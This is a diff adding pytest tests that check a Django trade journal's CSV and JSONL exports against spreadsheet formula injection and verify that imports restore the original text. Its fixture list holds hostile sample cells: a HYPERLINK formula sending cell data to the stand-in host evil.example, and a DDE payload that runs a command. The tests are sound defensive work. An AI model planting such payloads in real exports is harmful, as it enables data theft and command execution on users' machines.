@@ -194,3 +194,60 @@ def test_an_export_that_fails_halfway_leaves_no_partial_file(tmp_path, good_csv)
         call_command("export_trades", "-o", str(output), "--no-progress", stderr=io.StringIO())
     assert output.read_text() == "yesterday's export\n"
     assert [p.name for p in tmp_path.iterdir()] == ["trades.csv"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "'=already quoted",
+    "'plain apostrophe",
+    "'",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_formula_text_is_exported_safe_and_round_trips_exactly(tmp_path, fmt):
+    """OWASP CSV injection: text cells starting with = + - @ are written with a leading
+    apostrophe (read as text by spreadsheets); the import takes it off again."""
+    from journal.services import record_trades
+    from tests.journal.conftest import trade_data
+
+    record_trades(
+        [
+            trade_data(trade_id=f"F{n}", strategy=text, account=text, broker_order_id=text[:64])
+            for n, text in enumerate(FORMULAS)
+        ]
+    )
+    before = list(Trade.objects.order_by("trade_id").values_list(*FIELDS))
+    exported = tmp_path / f"out.{fmt}"
+    call_command(
+        "export_trades", "--format", fmt, "-o", str(exported), "--no-progress", stderr=io.StringIO()
+    )
+    if fmt == "csv":
+        import csv as csv_module
+
+        rows = list(csv_module.DictReader(exported.open(encoding="utf-8")))
+        for row in rows:
+            for field in ("strategy", "account", "broker_order_id"):
+                assert not row[field].startswith(("=", "+", "-", "@")), row[field]
+        assert {row["strategy"] for row in rows} >= {
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "''plain apostrophe",
+        }
+    Trade.objects.all().delete()
+    run_import(exported)
+    assert list(Trade.objects.order_by("trade_id").values_list(*FIELDS)) == before
+
+
+def test_the_admin_export_is_spreadsheet_safe_too(client, django_user_model):
+    from journal.services import record_trades
+    from tests.journal.conftest import trade_data
+
+    record_trades([trade_data(strategy='=HYPERLINK("x")', account="+cmd|' /C calc'!A0")])
+    admin_user = django_user_model.objects.create_superuser("root", password="x")
+    client.force_login(admin_user)
+    body = b"".join(client.get("/admin/journal/trade/export.csv").streaming_content).decode()
+    assert ",'=HYPERLINK" in body.replace('"', "") and "'+cmd" in body
+    assert ",=HYPERLINK" not in body.replace('"', "")
